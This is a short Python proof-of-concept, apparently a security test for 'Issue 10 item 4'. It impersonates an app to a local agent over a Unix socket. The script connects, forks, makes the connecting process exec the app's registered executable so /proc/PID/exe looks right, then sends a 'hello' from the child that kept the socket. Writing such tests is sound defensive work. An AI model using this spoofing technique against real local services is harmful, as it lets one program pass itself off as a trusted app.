#!/usr/bin/env python3
"""Issue 10 item 4, as an attacker of the same user would try it: connect to the agent's socket, fork, make the
connecting process run the app's registered executable (so /proc/PID/exe looks right), and say hello from the child,
which kept the socket. Prints the agent's answer: "<t> <code> <message>".

usage: impostor.py SOCKET BUNDLE EXECUTABLE"""
import os
import plistlib
import socket
import struct
import sys
import time

path, bundle, executable = sys.argv[1:4]
connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
connection.connect(path)
time.sleep(0.3)  # the agent has accepted the connection and looked at this process
if os.fork() != 0:
    # The connecting process becomes the app (its copy of the socket is close-on-exec; the child keeps its own).
    os.execv(executable, [executable, "2"])
time.sleep(0.3)  # the parent runs the app's executable now
hello = plistlib.dumps({"t": "hello", "bundle": bundle, "v": 1}, fmt=plistlib.FMT_BINARY)
connection.sendall(struct.pack(">I", len(hello)) + hello)


def exactly(count):
    data = b""
    while len(data) < count:
        chunk = connection.recv(count - len(data))
        if not chunk:
            return None
        data += chunk
    return data


header = exactly(4)
body = exactly(struct.unpack(">I", header)[0]) if header else None
if body is None:
    print("closed without an answer", flush=True)
else:
    reply = plistlib.loads(body)
    print(reply.get("t"), reply.get("code", ""), reply.get("message", ""), flush=True)
